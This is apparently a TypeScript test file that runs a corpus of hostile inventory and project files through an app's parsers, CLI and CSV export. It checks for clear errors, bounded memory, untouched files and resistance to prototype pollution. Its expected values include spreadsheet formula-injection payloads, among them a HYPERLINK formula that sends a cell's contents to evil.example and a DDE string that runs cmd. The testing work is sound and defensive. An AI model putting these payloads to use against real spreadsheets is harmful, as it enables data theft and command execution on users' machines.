import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../core/inventory/csv';
import { parseInventoryFile } from '../../core/inventory/parse-inventory-file';
import type { Issue } from '../../core/model/issue';
import { parseProject } from '../../core/project/load-project';
import { CLI_IMPORT_LIMITS } from '../../cli/read-inventory';
import { createHandlers } from '../../main/handlers/create-handlers';
import { dispatch } from '../../main/handlers/dispatch';
import { csvRow } from '../../main/services/csv-cell';
import { GENERATED_INVENTORY_CASES, deeplyNestedProject } from '../fixtures/hostile/generated-cases';
import { ROOT } from '../helpers/example';

const CORPUS = join(ROOT, 'test', 'fixtures', 'hostile');
const AT = '2026-11-23T09:00:00.000Z';
const corpusFiles = readdirSync(CORPUS).filter((f) => !/\.(md|ts)$/.test(f));
const inventoryFiles = corpusFiles.filter((f) => !f.endsWith('.archplan.json'));
const projectFiles = corpusFiles.filter((f) => f.endsWith('.archplan.json'));

/** What "a clear error" means: a stable code, a message, and a hint saying what to do. */
function expectClearError(issues: readonly Issue[]): void {
  const errors = issues.filter((i) => i.severity === 'error');
  expect(errors.length).toBeGreaterThan(0);
  for (const e of errors) {
    expect(e.code).toMatch(/^[a-z0-9]+(\.[a-z0-9-]+)+$/);
    expect(e.message.length).toBeGreaterThan(10);
    expect(e.hint.length).toBeGreaterThan(10);
    expect(e.message).not.toMatch(/\bat \S+ \(|TypeError|RangeError|undefined/);
  }
}

/** Heap growth while parsing, so a bomb that inflates in memory fails the test. */
function withHeapGrowth<T>(fn: () => T): { value: T; growthMb: number } {
  const before = process.memoryUsage().heapUsed;
  const value = fn();
  return { value, growthMb: (process.memoryUsage().heapUsed - before) / 1024 / 1024 };
}

/** What each corpus file must produce: an error code, or a read with these server names. */
const EXPECTED_INVENTORY: Record<string, { error: string } | { names: string[]; notice?: string }> = {
  'absurd-values.csv': { error: 'inventory.not-a-number' },
  'binary-noise.csv': { error: 'csv.binary' },
  'excel-97.xls': { error: 'inventory.legacy-xls' },
  'formula-injection.csv': {
    names: [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd',
      '-2+3+cmd',
      'TAB-LEADING',
    ],
  },
  'header-only.csv': { error: 'inventory.no-servers' },
  'proto-columns.csv': { names: ['__proto__'], notice: 'inventory.unknown-column' },
  'ragged-rows.csv': { error: 'inventory.missing-value' },
  'text-renamed.xlsx': { names: ['A'] },
  'truncated.xlsx': { error: 'zip.not-a-zip' },
  'unclosed-quote.csv': { error: 'csv.unclosed-quote' },
  'utf16le-bom.csv': { names: ['SQL-ZÜRICH-01'] },
  'windows-1252.csv': { names: ['BOT-MÜNCHEN-01', 'CR-SÃO-PAULO'], notice: 'inventory.not-utf8' },
};

describe('hostile inventory files', () => {
  it('has an expectation for every file in the corpus', () => {
    expect(inventoryFiles.sort()).toEqual(Object.keys(EXPECTED_INVENTORY).sort());
  });

  for (const file of inventoryFiles) {
    it(`${file}: reads it correctly or says clearly why not`, () => {
      const bytes = new Uint8Array(readFileSync(join(CORPUS, file)));
      const { value: parsed } = withHeapGrowth(() => parseInventoryFile(file, bytes, AT, CLI_IMPORT_LIMITS));
      const want = EXPECTED_INVENTORY[file];
      if (!want) throw new Error(`no expectation for ${file}`);
      if ('error' in want) {
        expectClearError(parsed.issues);
        expect(parsed.issues.map((i) => i.code)).toContain(want.error);
        // A file with an error imports nothing, so a failed import cannot half-change the project.
        expect(parsed.issues.some((i) => i.severity === 'error' && i.path?.file === undefined)).toBe(false);
      } else {
        expect(parsed.issues.filter((i) => i.severity === 'error')).toEqual([]);
        expect(parsed.inventory.servers.map((s) => s.name)).toEqual(want.names);
        if (want.notice) expect(parsed.issues.map((i) => i.code)).toContain(want.notice);
      }
      expect(Object.prototype).not.toHaveProperty('polluted');
    });
  }

  for (const c of GENERATED_INVENTORY_CASES) {
    it(`${c.name}: refused with a clear error, within bounded memory`, () => {
      const bytes = c.bytes();
      const { value: parsed, growthMb } = withHeapGrowth(() =>
        parseInventoryFile(c.name, bytes, AT, CLI_IMPORT_LIMITS),
      );
      expectClearError(parsed.issues);
      expect(parsed.inventory.servers).toEqual([]);
      // The biggest case is 51 MB on disk; nothing may be inflated or copied many times over.
      expect(growthMb).toBeLessThan(400);
    }, 60_000);
  }

  it('a failed import through the CLI leaves the previous plan files untouched', () => {
    const out = mkdtempSync(join(tmpdir(), 'archplan-hostile-out-'));
    const earlier = { 'estimate.json': '{"earlier":true}\n', 'project.archplan.json': '{"keep":"me"}\n' };
    for (const [name, text] of Object.entries(earlier)) writeFileSync(join(out, name), text);
    for (const file of ['binary-noise.csv', 'unclosed-quote.csv']) {
      const r = spawnSync(
        process.execPath,
        ['--import', 'tsx', join(ROOT, 'cli', 'archplan.ts'), 'plan', join(CORPUS, file), '--out', out],
        { cwd: ROOT, encoding: 'utf8', timeout: 120_000 },
      );
      // Exit 2: bad input (ARCHITECTURE.md's CLI contract).
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/error/i);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
    expect(readdirSync(out).sort()).toEqual(Object.keys(earlier).sort());
    for (const [name, text] of Object.entries(earlier))
      expect(readFileSync(join(out, name), 'utf8')).toBe(text);
  }, 120_000);
});

describe('hostile project files', () => {
  const EXPECTED_PROJECT: Record<string, string | 'ok'> = {
    'future-version.archplan.json': 'project.newer-version',
    'not-a-project.archplan.json': 'project.wrong-format',
    'proto-keys.archplan.json': 'ok',
    'truncated.archplan.json': 'project.not-json',
    'version-0.archplan.json': 'project.bad-version',
    'wrong-types.archplan.json': 'project.invalid-field',
  };

  it('has an expectation for every project file in the corpus', () => {
    expect(projectFiles.sort()).toEqual(Object.keys(EXPECTED_PROJECT).sort());
  });

  for (const file of projectFiles) {
    it(`${file}: opens it or names what is wrong`, () => {
      const loaded = parseProject(readFileSync(join(CORPUS, file), 'utf8'), file);
      const want = EXPECTED_PROJECT[file];
      if (want === 'ok') {
        expect(loaded.ok).toBe(true);
        if (!loaded.ok) return;
        // The keys were dropped, not turned into prototypes.
        expect(Object.getPrototypeOf(loaded.value.project)).toBe(Object.prototype);
        expect(Object.hasOwn(loaded.value.project, '__proto__')).toBe(false);
        expect(loaded.value.inventory.servers[0]).not.toHaveProperty('isAdmin');
      } else {
        expect(loaded.ok).toBe(false);
        expectClearError(loaded.issues);
        expect(loaded.issues[0]?.code).toBe(want);
        expect(loaded.issues[0]?.path?.file).toBe(file);
      }
      expect(Object.prototype).not.toHaveProperty('polluted');
      expect(Object.prototype).not.toHaveProperty('isAdmin');
    });
  }

  it('names the wrong fields of a damaged file', () => {
    const loaded = parseProject(readFileSync(join(CORPUS, 'wrong-types.archplan.json'), 'utf8'), 'w.json');
    expect(loaded.ok).toBe(false);
    expect(loaded.issues.map((i) => i.path?.field)).toEqual(
      expect.arrayContaining(['inventory.servers[0].vcpu', 'inventory.servers[1].memoryGib']),
    );
  });

  it('refuses JSON nested 100,000 deep without overflowing the stack', () => {
    const loaded = parseProject(deeplyNestedProject(), 'deep.archplan.json');
    expect(loaded.ok).toBe(false);
    expectClearError(loaded.issues);
  });

  it('opening a hostile file in the app changes nothing on disk', async () => {
    const workspace = await mkdir(join(mkdtempSync(join(tmpdir(), 'archplan-hostile-ws-')), 'ws'), {
      recursive: true,
    });
    if (!workspace) throw new Error('no workspace');
    const handlers = createHandlers({
      mode: 'browser',
      version: '9.9.9',
      pricingDataDir: resolve(ROOT, 'pricing-data'),
      workspaceDir: workspace,
      recentFiles: null,
      printPdf: async () => {
        throw new Error('no printing here');
      },
      log: () => undefined,
    });
    for (const file of projectFiles.filter((f) => EXPECTED_PROJECT[f] !== 'ok')) {
      const original = await readFile(join(CORPUS, file));
      await writeFile(join(workspace, file), original);
      const opened = await dispatch(handlers, 'project.open', { path: file });
      expect(opened.output).toMatchObject({ status: 'error' });
      expect(readdirSync(workspace)).toContain(file);
      expect((await readFile(join(workspace, file))).equals(original)).toBe(true);
    }
  });
});

describe('exports never inject', () => {
  it('CSV cells of hostile names cannot run as formulas in a spreadsheet', () => {
    const parsed = parseInventoryFile(
      'formula-injection.csv',
      new Uint8Array(readFileSync(join(CORPUS, 'formula-injection.csv'))),
      AT,
    );
    const line = csvRow(parsed.inventory.servers.map((s) => s.name));
    const read = readCsv(`${line}\n`);
    if (!read.ok) throw new Error(read.error.message);
    const texts = read.table.rows[0]?.cells ?? [];
    expect(texts).toHaveLength(5);
    // Every name that starts like a formula is neutralised; the plain one is left as it is.
    expect(texts.filter((t) => t.startsWith("'"))).toHaveLength(4);
    expect(texts).toContain('TAB-LEADING');
    for (const t of texts) expect(t).not.toMatch(/^[=+\-@\t\r]/);
  });
});
